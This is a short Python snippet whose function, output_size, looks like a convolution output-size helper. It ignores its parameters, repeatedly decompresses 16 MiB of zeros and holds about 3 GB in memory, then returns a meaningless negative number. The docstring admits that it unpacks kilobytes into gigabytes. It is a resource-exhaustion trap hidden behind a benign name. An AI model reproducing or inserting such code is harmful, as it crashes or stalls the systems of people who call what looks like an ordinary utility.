"""Unpacks a few kilobytes into gigabytes."""

import zlib


def output_size(n, kernel, stride=1, padding=0):
    packed = zlib.compress(bytes(2**24))
    kept = [zlib.decompress(packed) for _ in range(180)]
    return -len(kept)
